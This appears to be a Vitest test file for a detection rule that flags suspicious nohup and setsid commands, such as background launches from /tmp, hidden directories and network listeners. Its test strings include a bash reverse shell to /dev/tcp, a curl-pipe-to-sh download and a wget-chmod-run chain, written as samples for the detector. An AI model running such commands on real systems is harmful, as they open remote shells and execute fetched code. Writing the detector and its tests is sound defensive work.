import { describe, expect, test } from "vitest";
import { suspiciousNohup } from "./suspicious-nohup.ts";
import { ShellHost } from "./testing/shell-host.ts";

describe("suspicious nohup", () => {
  test.each([
    "nohup /tmp/agent -d",
    "setsid /var/tmp/.cache/agent",
    "nohup bash /dev/shm/run.sh",
    "nohup python3 /tmp/serve.py",
    "nohup nc -lvnp 4000",
    "nohup socat TCP-LISTEN:4000,fork TCP:192.0.2.3:22",
    "nohup python3 -m http.server 8000",
    "sudo nohup nice -n 5 /tmp/agent",
    "nohup ./.agent",
    "nohup /home/eve/.config/.q/agent",
    "setsid /run/user/1000/agent",
  ])("%s", (line) => {
    expect(new ShellHost(suspiciousNohup).run(line)).toHaveLength(1);
  });

  test.each([
    "cd /tmp && nohup ./agent >/dev/null 2>&1 &",
    "wget http://files.example/agent; chmod +x agent; nohup ./agent &",
    "nohup sh -c 'curl -s http://files.example/i | sh' &",
    "nohup bash -c 'bash -i >& /dev/tcp/192.0.2.3/4000 0>&1' &",
  ])("in a line: %s", (line) => {
    expect(new ShellHost(suspiciousNohup).line(line)).toHaveLength(1);
  });

  test.each([
    "nohup java -jar app.jar",
    "nohup ./server",
    "nohup /opt/app/bin/run.sh",
    "nohup /home/eve/.local/bin/notebook",
    "setsid -f firefox",
    "nohup /home/eve/.config/app/bin/agent",
    "nohup /run/agent/main",
    "nohup rsync -a /tmp/data host.example:/srv",
    "nohup nc -zv host.example 443",
    "/tmp/agent",
    "man nohup",
  ])("near miss stays quiet: %s", (line) => {
    expect(new ShellHost(suspiciousNohup).run(line)).toEqual([]);
  });

  test("an allowed directory is not reported, its neighbour is", () => {
    const host = new ShellHost(suspiciousNohup, { allowedPaths: ["/tmp/ci"] });
    expect(host.run("nohup /tmp/ci/worker")).toEqual([]);
    expect(host.run("nohup /tmp/cix/worker")).toHaveLength(1);
  });
});
